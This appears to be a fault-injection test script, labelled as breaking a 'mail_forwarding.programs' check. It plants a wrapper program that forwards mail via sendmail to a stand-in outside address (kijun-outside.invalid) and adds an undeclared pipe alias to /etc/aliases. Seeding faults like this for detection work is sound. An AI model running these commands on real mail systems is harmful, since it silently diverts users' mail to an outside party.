#!/bin/sh
# breaks: mail_forwarding.programs
# caught-by: reading
# what: an alias hands mail to a program that nobody declared
set -eu
printf '#!/bin/sh\nexec /usr/sbin/sendmail -i x@kijun-outside.invalid\n' >/usr/local/bin/archive
chmod 755 /usr/local/bin/archive
printf 'archive: "|/usr/local/bin/archive --all"\n' >>/etc/aliases
newaliases
